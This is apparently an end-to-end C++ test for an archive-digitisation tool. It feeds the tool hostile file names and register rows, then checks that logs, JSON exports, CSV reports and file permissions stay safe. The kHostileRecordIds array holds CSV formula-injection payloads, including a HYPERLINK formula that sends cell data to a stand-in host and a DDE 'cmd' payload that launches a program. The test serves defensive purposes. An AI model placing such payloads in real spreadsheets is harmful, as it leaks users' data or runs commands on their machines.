// End to end (issue 25): a hostile batch and register through run → export →
// report (text, json, csv, html) → verify, under the usual umask 022.
// Names in TCVN3, VNI and CP1258 bytes, invalid UTF-8, a newline, a tab, a
// leading '-' and '='; register rows starting with each formula character;
// a FIFO, a link back to the input and an alias of the archive in the input
// folder. Every command exits normally, every JSON parses, LibreOffice reads
// the report CSV's cells as the literal text, the bags pass an independent
// BagIt check, and every file the run wrote is 0640 in 0750 folders.
#include <sys/stat.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>

#include "pipeline/core/file_name.h"
#include "tests/pipeline/archive/archive_fixture.h"
#include "tests/test_support.h"

namespace sohoa {
namespace {

namespace fs = std::filesystem;
using testing::BinaryPath;
using testing::Quote;
using testing::ReadFile;
using testing::RunCommand;
using testing::SamplesDir;
using testing::ScratchDir;

struct HostileName {
  const char* raw;
  const char* sample;    // scans/<sample> is copied under the raw name
  const char* encoding;  // expected legacy guess ("" = none expected)
  const char* guess;
};
// Four distinct documents (four OCRs) under hostile first names, and two more
// names for the same contents (recognised by hash: no further OCR).
const HostileName kNames[] = {
    {"Nguy\xd4n V\xa8n T\xa9m.png", "t10_ket_hon.png", "TCVN3", "Nguyễn Văn Tâm.png"},
    {"T\xe2m\nline.jpg", "t11_khai_tu.jpg", "CP1258", "Tâm\nline.jpg"},
    {"Nguye\xe3n Va\xean.tif", "t01_khai_sinh_g4.tif", "VNI", "Nguyễn Văn.tif"},
    {"bad\xff\xfename.tif", "t03_khai_tu_packbits.tif", "", ""},
    {"-\ttab.png", "t10_ket_hon.png", "", ""},
    {"=HYPERLINK(\"x\").jpg", "t11_khai_tu.jpg", "", ""},
};

// Register rows whose record_id starts with each formula character, and
// what LibreOffice must show for the report CSV's cell: the literal text
// behind the apostrophe. The import trims a cell's leading TAB (so it never
// reaches the report; SpreadsheetCellTest covers it); LibreOffice writes the
// CR of a cell as LF.
const std::pair<const char*, const char*> kHostileRecordIds[] = {
    {"=HYPERLINK(\"http://x.example/?a=\"&A1)", "'=HYPERLINK(\"http://x.example/?a=\"&A1)"},
    {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
    {"-2+3", "'-2+3"},
    {"@SUM(1+1)", "'@SUM(1+1)"},
    {"\tTAB-1", "TAB-1"},
    {"\rCR-1", "'\nCR-1"},
};

std::string Sohoa(const std::string& args) {
  return "umask 022; " + Quote(BinaryPath("sohoa").string()) + " " + args;
}

std::string CsvQuoted(const std::string& s) {
  std::string out = "\"";
  for (char c : s) out += c == '"' ? std::string("\"\"") : std::string(1, c);
  return out + "\"";
}

// The cells of a CSV as LibreOffice wrote it (RFC 4180, quotes doubled).
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
        cell += '"', ++i;
      else if (c == '"')
        quoted = false;
      else
        cell += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(cell), cell.clear();
    } else if (c == '\n') {
      rows.back().push_back(cell), cell.clear();
      rows.emplace_back();
    } else if (c != '\r') {
      cell += c;
    }
  }
  if (!cell.empty() || !rows.back().empty()) rows.back().push_back(cell);
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

class HostileNamesTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new ScratchDir("hostile_names");
    const fs::path input = *dir_ / "scans";
    fs::create_directories(input);
    for (const HostileName& n : kNames) fs::copy_file(SamplesDir() / "scans" / n.sample, input / n.raw);
    // What the walk must pass over, by name: a FIFO, the input again, the
    // archive (inside the input) and an alias of it.
    ASSERT_EQ(::mkfifo((input / "pipe").c_str(), 0600), 0);
    fs::create_directory_symlink(input, input / "all");
    fs::create_directories(input / "archive");
    fs::create_directory_symlink(input / "archive", input / "alias");

    std::string reg = ReadFile(SamplesDir() / "inventory.csv");
    for (const auto& [id, shown] : kHostileRecordIds) {
      reg += CsvQuoted(id) + ",khai_sinh,7,01/2020,2020-01-15,,true\n";
    }
    testing::WriteFile(*dir_ / "register.csv", reg);

    run_ = new testing::CommandResult(
        RunCommand(Sohoa("run --input " + Quote(input.string()) + " --archive " + Quote(archive().string()) +
                         " --jobs 2 --ui-lang en 2>&1")));
    import_ = new testing::CommandResult(
        RunCommand(Sohoa("inventory import --archive " + Quote(archive().string()) + " " +
                         Quote((*dir_ / "register.csv").string()) + " 2>&1")));
  }
  static void TearDownTestSuite() {
    delete run_;
    delete import_;
    delete dir_;
  }
  static fs::path archive() { return *dir_ / "scans" / "archive"; }
  static std::string Report(const std::string& format) {
    testing::CommandResult r = RunCommand(Sohoa("report --archive " + Quote(archive().string()) +
                                                " --lang en --format " + format + " 2>/dev/null"));
    EXPECT_EQ(r.exit_code, 0) << format << ": " << r.output;
    return r.output;
  }

  static ScratchDir* dir_;
  static testing::CommandResult* run_;
  static testing::CommandResult* import_;
};
ScratchDir* HostileNamesTest::dir_ = nullptr;
testing::CommandResult* HostileNamesTest::run_ = nullptr;
testing::CommandResult* HostileNamesTest::import_ = nullptr;

TEST_F(HostileNamesTest, RunEndsNormallyWithOneLogLinePerEventAndNamesWhatItPassedOver) {
  EXPECT_TRUE(run_->exit_code == 0 || run_->exit_code == 3) << run_->output;
  EXPECT_EQ(import_->exit_code, 0) << import_->output;
  // The newline in a name is escaped: no log line starts with its tail.
  EXPECT_NE(run_->output.find("skipped: T\\xE2m\\nline.jpg: "), std::string::npos) << run_->output;
  EXPECT_EQ(run_->output.find("\nline.jpg"), std::string::npos) << run_->output;
  EXPECT_NE(run_->output.find("-\\ttab.png"), std::string::npos) << run_->output;
  EXPECT_NE(run_->output.find("passed over: pipe (named pipe (FIFO))"), std::string::npos) << run_->output;
  EXPECT_NE(run_->output.find("passed over: all (folder walked already)"), std::string::npos) << run_->output;
  EXPECT_NE(run_->output.find("passed over: alias (own output): the archive"), std::string::npos);
  EXPECT_NE(run_->output.find("passed over: archive (own output): the archive"), std::string::npos);
  EXPECT_NE(run_->output.find(": 6 files (4 entries that are not files passed over"), std::string::npos)
      << run_->output;
  // A FIFO may hide a scan someone meant to give: the run asks for a person.
  EXPECT_EQ(run_->exit_code, 3);
}

TEST_F(HostileNamesTest, ExportParsesAndGivesEveryNameBackWithItsBytes) {
  testing::CommandResult r = RunCommand(Sohoa("export --archive " + Quote(archive().string()) + " 2>&1"));
  ASSERT_EQ(r.exit_code, 0) << r.output;
  std::map<std::string, nlohmann::json> by_raw;
  std::istringstream lines(r.output);
  std::string line;
  while (std::getline(lines, line)) {
    nlohmann::json j = nlohmann::json::parse(line, nullptr, false);
    ASSERT_TRUE(j.is_object()) << line;
    std::string raw = j["source"].get<std::string>();
    if (j.contains("source_bytes")) raw = *BytesFromHex(j["source_bytes"].get<std::string>());
    by_raw[raw] = j;
  }
  ASSERT_EQ(by_raw.size(), 4u) << r.output;  // 4 contents; nothing of the archive ingested
  for (const HostileName& n : kNames) {
    if (!by_raw.count(n.raw)) continue;  // the second name of a content
    const nlohmann::json& j = by_raw[n.raw];
    EXPECT_NE(j["status"], "quarantined") << n.raw << ": " << j.dump();
    if (n.encoding[0] != '\0') {
      ASSERT_TRUE(j.contains("source_legacy_guess")) << j.dump();
      EXPECT_EQ(j["source_legacy_guess"]["encoding"], n.encoding);
      EXPECT_EQ(j["source_legacy_guess"]["text"], n.guess);
    }
  }
  EXPECT_EQ(by_raw["bad\xff\xfename.tif"]["source"], "bad\\xFF\\xFEname.tif");
  testing::CommandResult status =
      RunCommand(Sohoa("status --archive " + Quote(archive().string()) + " 2>&1"));
  EXPECT_EQ(status.exit_code, 0) << status.output;
  EXPECT_NE(status.output.find("-\\ttab.png: "), std::string::npos)
      << status.output;  // one line per document
  EXPECT_EQ(by_raw["bad\xff\xfename.tif"]["source_bytes"], "626164fffe6e616d652e746966");
}

TEST_F(HostileNamesTest, ReportsParseAndTheCsvCellsStayLiteralInLibreOffice) {
  const std::string text = Report("text");
  for (char c : text)
    EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << "control in text report";
  EXPECT_NE(text.find("  -2+3  "), std::string::npos);  // the text report shows values as they are
  nlohmann::json json = nlohmann::json::parse(Report("json"), nullptr, false);
  ASSERT_FALSE(json.is_discarded());
  EXPECT_NE(Report("html").find("</html>"), std::string::npos);

  const fs::path csv = *dir_ / "report.csv";
  testing::WriteFile(csv, Report("csv"));
  ASSERT_EQ(RunCommand("command -v soffice").exit_code, 0)
      << "LibreOffice (libreoffice-calc-nogui) is needed";
  testing::CommandResult lo =
      RunCommand("cd " + Quote(dir_->path().string()) +
                 " && timeout 300 soffice -env:UserInstallation=file://" + dir_->path().string() +
                 "/lo-profile --headless --convert-to csv --outdir lo " + Quote(csv.string()) + " 2>&1");
  ASSERT_EQ(lo.exit_code, 0) << lo.output;
  std::set<std::string> keys;
  for (const auto& row : ParseCsv(ReadFile(*dir_ / "lo" / "report.csv")))
    if (row.size() > 1 && row[0] == "not_digitized") keys.insert(row[1]);
  for (const auto& [id, shown] : kHostileRecordIds) EXPECT_TRUE(keys.count(shown)) << "LibreOffice: " << id;
}

TEST_F(HostileNamesTest, VerifyPassesBagsPassAnIndependentCheckAndModesAreClosed) {
  testing::CommandResult json =
      RunCommand(Sohoa("verify --archive " + Quote(archive().string()) + " --format json"));
  EXPECT_EQ(json.exit_code, 0) << json.output;
  nlohmann::json j = nlohmann::json::parse(json.output, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << json.output;
  EXPECT_EQ(j["readable_by_others_count"], 0) << json.output;
  for (const auto& bag : fs::directory_iterator(archive() / "bags")) {
    EXPECT_EQ(testing::ValidateBagIndependently(bag.path()), std::vector<std::string>{}) << bag.path();
  }
  int files = 0;
  for (const auto& e : fs::recursive_directory_iterator(archive())) {
    struct stat st;
    ASSERT_EQ(::lstat(e.path().c_str(), &st), 0);
    const bool folder = S_ISDIR(st.st_mode);
    EXPECT_EQ(st.st_mode & 0777, folder ? 0750u : 0640u) << e.path();
    files += !folder;
  }
  EXPECT_GT(files, 10);
  struct stat root;
  ASSERT_EQ(::stat(archive().c_str(), &root), 0);
  EXPECT_EQ(root.st_mode & 0777, 0750u);

  // A file opened to every account is named by verify.
  const fs::path ledger = archive() / "ledger.sqlite";
  fs::permissions(ledger, fs::perms::others_read, fs::perm_options::add);
  testing::CommandResult text =
      RunCommand(Sohoa("verify --ui-lang en --archive " + Quote(archive().string())));
  fs::permissions(ledger, fs::perms::others_read, fs::perm_options::remove);
  EXPECT_NE(
      text.output.find("of the archive are readable by every account on this server (e.g. ledger.sqlite)"),
      std::string::npos)
      << text.output;
}

}  // namespace
}  // namespace sohoa
